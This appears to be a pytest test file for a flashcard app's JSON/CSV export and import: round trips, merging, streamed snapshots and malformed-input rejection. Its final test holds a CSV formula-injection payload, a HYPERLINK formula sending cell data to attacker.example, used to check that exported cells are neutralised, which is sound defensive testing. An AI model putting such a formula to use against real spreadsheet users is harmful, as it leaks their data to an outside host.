"""Export to JSON and CSV, import of the JSON: round trip, idempotence, merging, malformed input."""

import csv
import io
import json
import threading
from datetime import timedelta
from typing import Any

import anyio
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import delete

from app.practice.models import Attempt, ReviewLog, ReviewState, UserSettings
from app.storage.base import utcnow
from app.transfer.export import BATCH_ROWS, CHUNK_CHARS
from app.transfer.schemas import ExportDoc
from tests.factories import OWNER_CARD, make_attempt
from tests.helpers.clients import get_scope
from tests.helpers.html import HTMX
from tests.helpers.interview import answer, rate, start
from tests.helpers.practice import add, counts, post_attempt, quiz_ids, review, write_session
from tests.helpers.suggestions import ANSWER

CACHE = "tf-data-cache-shuffle-order"


def populate(app: FastAPI, client: TestClient) -> None:
    """A bit of everything: rated and unrated answers, a follow-up, a quiz, a reveal without answering,
    a practice review without an attempt, a retired card, two tiers, awkward text, and settings."""
    client.put("/api/settings", json={"target_tier": "senior", "desired_retention": 0.85, "new_per_day": 4})
    post_attempt(client, text='Commas, "quotes"\nand a new line; <script>', rating="good", points=[0, 2])
    post_attempt(client, tier="senior", kind="follow-up", follow_up=2, points=[], rating="hard")
    pitfalls, truths = quiz_ids(client)
    post_attempt(client, kind="quiz", text=None, choices=[*pitfalls[:2], truths[3]], points=[], rating=None)
    post_attempt(client, CACHE, rating=None, text="not rated yet")
    post_attempt(client, CACHE, tier="senior", text=None, rating=None, points=[], revealed=True)
    review(app, "easy", utcnow() - timedelta(days=3), card_id="a-retired-card", tier="junior")


def export(client: TestClient) -> dict[str, Any]:
    response = client.get("/api/export.json")
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith('attachment; filename="tiercards-')
    data: dict[str, Any] = response.json()
    return data


def wipe(app: FastAPI) -> None:
    with write_session(app) as session:
        for table in (ReviewLog, ReviewState, UserSettings, Attempt):
            session.execute(delete(table))


def long_history(app: FastAPI, client: TestClient, answers: int) -> None:
    """populate's variety, a checked answer, an interview, and then `answers` more answers (some
    said aloud), each with its review: more rows than the export reads at once, more text than
    it sends at once."""
    populate(app, client)
    client.post(
        f"/cards/{OWNER_CARD}/answers",
        data={"tier": "middle", "kind": "solid", "text": ANSWER, "seconds": "12"},
        headers=HTMX,
    )
    url = start(client, source="cards", card=[OWNER_CARD], tier="middle")
    answer(client, url, "The main answer.")
    rate(client, url, "good")
    start_at = utcnow() - timedelta(days=30)
    made = [
        make_attempt(
            created_at=start_at + timedelta(minutes=i),
            text=f"answer {i}: " + "prefetch overlaps input with compute. " * 8,
            words_per_minute=120.0 + i % 7 if i % 3 == 0 else None,
            filler_count=i % 4 if i % 3 == 0 else None,
            long_pauses=i % 2 if i % 3 == 0 else None,
        )
        for i in range(answers)
    ]
    add(app, *made)
    add(
        app,
        *(
            ReviewLog(
                user_id=1,
                card_id=OWNER_CARD,
                tier="middle",
                rating=1 + i % 4,
                review_datetime=attempt.created_at,
                review_duration_ms=1000 + i,
                attempt_id=attempt.id,
            )
            for i, attempt in enumerate(made)
        ),
    )


def comparable(doc: dict[str, Any]) -> dict[str, Any]:
    """The document without what an import may renumber: attempt ids (logs point at created times)."""
    created = {a["id"]: a["created_at"] for a in doc["attempts"]}
    return {
        "settings": doc["settings"],
        "attempts": [{k: v for k, v in a.items() if k != "id"} for a in doc["attempts"]],
        "review_states": doc["review_states"],
        "review_logs": [log | {"attempt_id": created.get(log["attempt_id"])} for log in doc["review_logs"]],
    }


def test_export_holds_attempts_schedule_logs_and_settings(app: FastAPI, client: TestClient) -> None:
    populate(app, client)
    doc = export(client)
    assert (doc["format"], doc["version"]) == ("tiercards-export", 2)
    assert doc["settings"] == {"target_tier": "senior", "desired_retention": 0.85, "new_per_day": 4}
    assert len(doc["attempts"]) == 5 and len(doc["review_logs"]) == 5 and len(doc["review_states"]) == 4
    revealed = doc["attempts"][4]
    assert (revealed["revealed"], revealed["text"], revealed["rating"]) == (True, None, None)
    assert all(log["review_duration_ms"] is not None for log in doc["review_logs"])
    assert {s["card_id"] for s in doc["review_states"]} >= {"a-retired-card"}
    assert all(a["created_at"].endswith("Z") for a in doc["attempts"])


def test_the_streamed_export_is_the_document_pydantic_writes_whole(app: FastAPI, client: TestClient) -> None:
    """Sent a chunk at a time, the file is still byte for byte the whole document's JSON as it
    was written before it was streamed: the same keys in the same order, the same indentation."""
    answers = 3 * BATCH_ROWS
    long_history(app, client, answers)
    body = client.get("/api/export.json").content
    doc = ExportDoc.model_validate_json(body)
    assert doc.model_dump_json(indent=1).encode() == body
    assert len(body) > 3 * CHUNK_CHARS
    # The checked answer is not assessed yet: no review of it.
    assert len(doc.attempts) == 7 + answers and len(doc.review_logs) == 6 + answers
    created = [a.created_at for a in doc.attempts]
    assert created == sorted(created)
    assert [log.review_datetime for log in doc.review_logs] == sorted(
        log.review_datetime for log in doc.review_logs
    )
    assert any(a.coverage is not None for a in doc.attempts)
    assert sum(a.words_per_minute is not None for a in doc.attempts) == answers // 3
    assert len(doc.interviews) == 1 and doc.interviews[0].questions[0].attempt_id in {
        a.id for a in doc.attempts
    }


def test_an_empty_history_exports_as_the_whole_document(client: TestClient) -> None:
    body = client.get("/api/export.json").content
    assert ExportDoc.model_validate_json(body).model_dump_json(indent=1).encode() == body
    assert b'"attempts": [],' in body and b'"interviews": []\n}' in body


@pytest.mark.parametrize("table", ["attempts", "schedule", "reviews"])
def test_a_streamed_csv_table_has_every_row_once(app: FastAPI, client: TestClient, table: str) -> None:
    long_history(app, client, 3 * BATCH_ROWS)
    body = client.get("/api/export.csv", params={"table": table}).text
    header, *rows = list(csv.reader(io.StringIO(body, newline="")))
    # Written again whole, the rows are the same text: no line was cut or doubled at a chunk's edge.
    again = io.StringIO()
    csv.writer(again, lineterminator="\r\n").writerows([header, *rows])
    assert again.getvalue() == body
    expected = {"attempts": 7 + 3 * BATCH_ROWS, "reviews": 6 + 3 * BATCH_ROWS, "schedule": 4}
    assert len(rows) == expected[table] and all(len(row) == len(header) for row in rows)
    if table == "attempts":
        assert [row[1] for row in rows] == sorted(row[1] for row in rows)


def _export_while_answering(app: FastAPI, url: str) -> tuple[list[dict[str, Any]], bytes]:
    """The export at `url` read straight from the app, an answer (with its review) written as its
    first chunk arrives; the messages the app sent and the body."""
    sent: list[dict[str, Any]] = []

    requested: list[bool] = []

    async def receive() -> dict[str, Any]:
        if requested:  # the client stays connected until the response is done
            await anyio.sleep_forever()
        requested.append(True)
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.body" and len(sent) == 1:
            # A person answering on another device while the file downloads.
            later = make_attempt(created_at=utcnow() + timedelta(days=1), text="written during the export")
            add(app, later)
            add(
                app,
                ReviewLog(
                    user_id=1,
                    card_id=OWNER_CARD,
                    tier="middle",
                    rating=3,
                    review_datetime=later.created_at,
                    attempt_id=later.id,
                ),
            )
        sent.append(message)

    scope = get_scope(url)
    # On a thread of its own: the browser tests keep an event loop running on the main thread.
    thread = threading.Thread(target=anyio.run, args=(app, scope, receive, send))
    thread.start()
    thread.join()
    return sent, b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")


@pytest.mark.parametrize("url", ["/api/export.json", "/api/export.csv", "/api/export.csv?table=reviews"])
def test_an_export_streams_one_snapshot(app: FastAPI, client: TestClient, url: str) -> None:
    """The file leaves in chunks, and it is the history as it stood when the export began: an
    answer written while it downloads is in the next export, not this."""
    long_history(app, client, 3 * BATCH_ROWS)
    sent, body = _export_while_answering(app, url)
    chunks = [m for m in sent if m["type"] == "http.response.body" and m.get("body")]
    assert sent[0]["status"] == 200 and len(chunks) >= 2
    headers = dict(sent[0]["headers"])
    assert headers[b"content-disposition"].startswith(b'attachment; filename="tiercards-')
    assert headers[b"content-type"].split(b";")[0] in (b"application/json", b"text/csv")
    assert b"written during the export" not in body
    if url.endswith(".json"):
        # The log was read after the answer was written, and still is not in the file.
        now, later = (
            ExportDoc.model_validate_json(body),
            ExportDoc.model_validate_json(client.get(url).content),
        )
        assert (len(later.attempts), len(later.review_logs)) == (
            len(now.attempts) + 1,
            len(now.review_logs) + 1,
        )
    next_time = client.get(url).content
    assert next_time.count(b"written during the export") == (0 if "reviews" in url else 1)
    assert len(next_time.splitlines()) > len(body.splitlines())


def test_round_trip_into_an_empty_database_restores_everything(app: FastAPI, client: TestClient) -> None:
    populate(app, client)
    before = export(client)
    wipe(app)
    assert counts(app) == {"attempts": 0, "review_logs": 0, "review_states": 0}
    response = client.post("/api/import", json=before)
    assert response.status_code == 200, response.text
    assert response.json() == {
        "attempts_added": 5,
        "attempts_already_present": 0,
        "review_logs_added": 5,
        "review_logs_already_present": 0,
        "review_states_restored": 4,
        "review_states_replayed": 0,
        "review_states_kept": 0,
    }
    after = export(client)
    assert comparable(after) == comparable(before)
    schedule = client.get(f"/api/cards/{OWNER_CARD}/schedule?tier=middle").json()
    assert schedule["state"] == "learning" and schedule["reps"] == 2  # the rated answer and the quiz


def test_importing_the_same_file_twice_changes_nothing(app: FastAPI, client: TestClient) -> None:
    populate(app, client)
    doc = export(client)
    for _ in range(2):
        result = client.post("/api/import", json=doc).json()
        assert result["attempts_added"] == 0 and result["review_logs_added"] == 0
        assert result["review_states_kept"] == 4
    assert comparable(export(client)) == comparable(doc)


def test_import_merges_new_reviews_into_an_existing_schedule(app: FastAPI, client: TestClient) -> None:
    start = utcnow() - timedelta(days=20)
    review(app, "good", start)
    doc = export(client)
    # Elsewhere, later: two more reviews of the same card.
    wipe(app)
    review(app, "good", start)
    review(app, "good", start + timedelta(minutes=15))
    review(app, "easy", start + timedelta(days=5))
    elsewhere = export(client)
    wipe(app)
    assert client.post("/api/import", json=doc).status_code == 200
    result = client.post("/api/import", json=elsewhere).json()
    assert result["review_logs_added"] == 2 and result["review_logs_already_present"] == 1
    assert result["review_states_replayed"] == 1
    # Replayed from all three logs: the same state as the device that saw all three.
    assert export(client)["review_states"] == elsewhere["review_states"]


def test_import_restores_an_attempt_s_link_to_its_review(app: FastAPI, client: TestClient) -> None:
    attempt = post_attempt(client, rating="again")
    doc = export(client)
    wipe(app)
    client.post("/api/import", json=doc)
    (restored,) = client.get("/api/attempts").json()
    response = client.post(f"/attempts/{restored['id']}/assessment", data={"rating": "easy"}, headers=HTMX)
    assert response.status_code == 200
    # Re-rating the restored attempt replaces its review: still one log.
    logs = export(client)["review_logs"]
    assert len(logs) == 1 and logs[0]["rating"] == 4 and restored["created_at"] == attempt["created_at"]


def _valid_doc(app: FastAPI, client: TestClient) -> dict[str, Any]:
    populate(app, client)
    doc = export(client)
    wipe(app)
    return doc


@pytest.mark.parametrize(
    "breakage",
    [
        lambda d: d.update(format="something-else"),
        lambda d: d.update(version=3),
        lambda d: d.pop("attempts"),
        lambda d: d.update(surprise=True),
        lambda d: d["attempts"][0].update(created_at="2026-03-02T09:30:00"),  # naive
        lambda d: d["attempts"][0].update(tier="expert"),
        lambda d: d["attempts"][0].update(text="x" * 20_001),
        lambda d: d["attempts"][1].update(id=d["attempts"][0]["id"]),
        lambda d: d["review_logs"][0].update(rating=5),
        lambda d: d["review_logs"][0].update(attempt_id=999_999),
        lambda d: d["review_logs"][-1].update(review_duration_ms=-5),
        lambda d: d["review_states"][0].update(state="forgotten"),
        lambda d: d["review_states"].append(dict(d["review_states"][0])),
        lambda d: d["settings"].update(desired_retention=1.2),
        # Rows a submitted answer could never be, which used to break pages once stored.
        lambda d: d["attempts"][0].update(kind="follow-up"),  # a follow-up without its question
        lambda d: d["attempts"][2].update(score=None),  # a quiz without a score
        lambda d: d["attempts"][2].update(choices=None),  # a quiz without choices
        lambda d: d["attempts"][4].update(text="the model answer, pasted"),  # a reveal with an answer
        lambda d: d["attempts"][4].update(rating="good"),  # a reveal rated a pass
        lambda d: d["attempts"][0].update(text="   "),
        lambda d: d["attempts"][0].update(text="half a pair \ud800"),
        # Values that used to reach the database and answer 500.
        lambda d: d["review_states"][0].update(reps=2**64),
        lambda d: d["review_logs"][0].update(review_duration_ms=2**64),
        lambda d: d["attempts"][0].update(created_at="0001-01-01T00:00:00+23:59"),
        lambda d: d["attempts"][0].update(points=[2**40]),
        # Version 2 names answer points by id, version 1 by position.
        lambda d: d["attempts"][0].update(points=[0, 2]),
        lambda d: d.update(version=1),
        lambda d: d["attempts"][0].update(points=["not-an-id"]),
    ],
)
def test_a_malformed_import_gets_422_and_stores_nothing(
    app: FastAPI, client: TestClient, breakage: Any
) -> None:
    doc = _valid_doc(app, client)
    breakage(doc)
    # json.dumps escapes what httpx could not encode (half a surrogate pair).
    body = json.dumps(doc)
    response = client.post("/api/import", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 422, response.text
    assert isinstance(response.json()["detail"], list)
    assert counts(app) == {"attempts": 0, "review_logs": 0, "review_states": 0}
    assert client.get("/api/settings").json()["target_tier"] == "middle"


def test_non_finite_numbers_in_an_import_get_422(app: FastAPI, client: TestClient) -> None:
    doc = _valid_doc(app, client)
    body = json.dumps(doc).replace(
        '"seconds": ' + json.dumps(doc["attempts"][0]["seconds"]), '"seconds": NaN', 1
    )
    assert "NaN" in body
    response = client.post("/api/import", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 422
    assert counts(app)["attempts"] == 0


def test_pages_survive_a_stored_row_no_form_could_make(app: FastAPI, client: TestClient) -> None:
    """A row from an older version or a hand-edited database still shows; nothing answers 500."""
    with write_session(app) as session:
        session.add(make_attempt(kind="follow-up", follow_up=None, text="which one?"))
        session.add(make_attempt(kind="quiz", text=None, score=None, choices=None, rating=None))
        session.commit()
    for url in ("/progress", f"/cards/{OWNER_CARD}/history", "/api/attempts", "/api/progress"):
        assert client.get(url).status_code == 200, url


@pytest.mark.parametrize("body", [b"", b"{not json", b"[]", b"\xff\xfe", b'"a string"'])
def test_an_import_that_is_not_an_export_gets_422(client: TestClient, body: bytes) -> None:
    response = client.post("/api/import", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 422


def test_import_needs_the_csrf_token(anonymous_client: TestClient) -> None:
    assert anonymous_client.post("/api/import", json={}).status_code == 403


def test_the_progress_page_imports_an_uploaded_file(app: FastAPI, client: TestClient) -> None:
    doc = _valid_doc(app, client)
    files = {"file": ("backup.json", json.dumps(doc).encode(), "application/json")}
    response = client.post("/progress/import", files=files, headers=HTMX)
    assert response.status_code == 200 and "Imported backup.json: 5 attempts" in response.text
    assert counts(app)["attempts"] == 5
    bad = {"file": ("backup.json", b'{"format": "nope"}', "application/json")}
    response = client.post("/progress/import", files=bad, headers=HTMX)
    assert response.status_code == 422 and "Nothing was imported" in response.text
    assert counts(app)["attempts"] == 5


def read_csv(client: TestClient, table: str | None = None) -> list[dict[str, str]]:
    response = client.get("/api/export.csv" + (f"?table={table}" if table else ""))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def test_csv_exports(app: FastAPI, client: TestClient) -> None:
    populate(app, client)
    attempts = read_csv(client)
    assert len(attempts) == 5
    assert [a["revealed"] for a in attempts] == ["false"] * 4 + ["true"]
    assert (
        attempts[0]["text"] == 'Commas, "quotes"\nand a new line; <script>' and attempts[0]["points"] == "0 2"
    )
    point_ids = [p["id"] for p in client.get(f"/api/cards/{OWNER_CARD}").json()["sections"]["answer_points"]]
    assert attempts[0]["point_ids"] == f"{point_ids[0]} {point_ids[2]}"
    pitfalls, truths = quiz_ids(client)
    assert attempts[2]["choices"] == " ".join(sorted([*pitfalls[:2], truths[3]]))
    assert attempts[2]["kind"] == "quiz"
    schedule = read_csv(client, "schedule")
    assert {(r["card_id"], r["tier"]) for r in schedule} >= {
        ("a-retired-card", "junior"),
        (OWNER_CARD, "senior"),
    }
    assert all(r["due"].endswith("Z") and 0 <= float(r["retrievability_now"]) <= 1 for r in schedule)
    reviews = read_csv(client, "reviews")
    assert [r["rating_name"] for r in reviews].count("good") >= 1 and len(reviews) == 5
    assert [r["rating_name"] for r in reviews if r["card_id"] == CACHE and r["tier"] == "senior"] == ["again"]
    assert client.get("/api/export.csv?table=passwords").status_code == 422


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://attacker.example/?"&A1, "click")', "+1+2", "@SUM(A1)", "-2+3"]
)
def test_csv_cells_never_start_a_formula(client: TestClient, text: str) -> None:
    post_attempt(client, text=text)
    cell = read_csv(client)[0]["text"]
    assert cell == "'" + text
